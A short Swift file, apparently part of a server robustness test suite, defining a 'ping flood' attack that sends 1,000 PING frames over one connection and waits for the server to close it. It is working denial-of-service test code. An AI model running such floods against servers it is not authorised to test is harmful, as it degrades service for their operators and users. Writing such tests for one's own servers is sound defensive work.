import NIOCore

/// PINGs without a pause.
struct PingFlood: Attack {
  let name = "ping flood"

  func attack(_ target: Target) async throws {
    try await target.withConnection { connection in
      var frames = ByteBuffer()
      frames.writeAgreement(window: 262_144)
      for number in 0 ..< UInt64(1_000) {
        frames.writeFrame(.ping, ByteBuffer(integer: number))
      }
      try await connection.send(frames)
      try await connection.waitForEnd(atMost: 5)
    }
  }
}
